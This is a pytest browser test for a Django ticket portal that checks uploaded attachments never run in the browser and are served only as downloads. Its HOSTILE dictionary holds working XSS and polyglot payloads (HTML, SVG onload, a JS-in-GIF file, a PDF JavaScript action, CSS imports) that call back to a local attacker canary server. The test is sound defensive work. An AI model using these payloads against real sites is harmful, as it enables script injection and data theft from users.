"""Files that would like to be pages: uploaded by one, opened by another in a real browser (R57, R58)."""

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.conf import settings as installed
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Error

from poshtyar.files.operations import store_file
from tests import factories
from tests.site import running_site

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CALL = "new Image().src='{canary}?{name}';fetch('{canary}?{name}',{{mode:'no-cors'}})"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="{call}"><script>{call}</script></svg>'
HOSTILE = {
    "page.html": b'<!DOCTYPE html><script>{call}</script><img src=x onerror="{call}">',
    "page.xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{call}</script></html>',
    "picture.png": b'<html><body onload="{call}"></body></html>',
    "drawing.svg": SVG,
    "hidden.svg": b"<!-- harmless -->\n<!-- -->" + SVG,
    "feed.xml": b'<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{call}</h:script></x>',
    "code.js": b"{call}",
    "module.mjs": b"{call};export default 1",
    "gif.gif": b"GIF89a=1;{call};//",
    "paper.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL('{canary}?{name}'))>>>>endobj\n",
    "archive.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>{call}</script>",
    "style.css": b"@import url('{canary}?{name}');body{{background:url('{canary}?{name}')}}",
}
TAGS = (
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<script src="{}"></script>',
    '<script type="module" src="{}"></script>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<link rel="stylesheet" href="{}">',
)


@contextmanager
def attacker():
    """Serve a page of an attacker on the same site (only its port differs), and note who calls back."""
    calls, page = [], {"body": b""}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            is_call = self.path.startswith("/canary")
            if is_call:
                calls.append(self.path.partition("?")[2])
            self.send_response(204 if is_call else 200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"" if is_call else page["body"])

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", calls, page
    finally:
        server.shutdown()
        server.server_close()


def upload(name: str, canary: str, organization, alice, now) -> str:
    """Attach a file to a ticket; return its address."""
    call = CALL.format(canary=canary, name=name)
    content = HOSTILE[name].decode().format(call=call, canary=canary, name=name).encode()
    file = store_file(upload=SimpleUploadedFile(name, content), organization=organization, actor=alice, now=now)
    factories.make_ticket(organization, alice, files=[file])
    return reverse("portal:file", args=[file.public_id])


def test_r57_r58_nothing_that_was_uploaded_runs_wherever_it_is_put(chromium, alice, organization, now):
    client = Client()
    client.force_login(alice)
    name = installed.SESSION_COOKIE_NAME
    with running_site() as site, attacker() as (elsewhere, calls, page):
        paths = [upload(each, f"{elsewhere}/canary", organization, alice, now) for each in HOSTILE]
        tags = "".join(tag.format(site + path) for path in paths for tag in TAGS)
        page["body"] = f"{tags}<script>{CALL.format(canary='/canary', name='control')}</script>".encode()
        context = chromium.new_context()
        context.add_cookies([{"name": name, "value": client.cookies[name].value, "url": site}])
        tab = context.new_page()

        statuses = [context.request.get(site + path).status for path in paths]
        tab.goto(f"{elsewhere}/", wait_until="load")
        tab.wait_for_timeout(1000)
        downloads = 0
        for path in paths:
            with tab.expect_download() as download, pytest.raises(Error, match="Download is starting"):
                tab.goto(site + path)
            downloads += download.value.suggested_filename in HOSTILE
        context.close()

    assert statuses == [200] * len(HOSTILE)
    assert downloads == len(HOSTILE)
    assert set(calls) == {"control"}
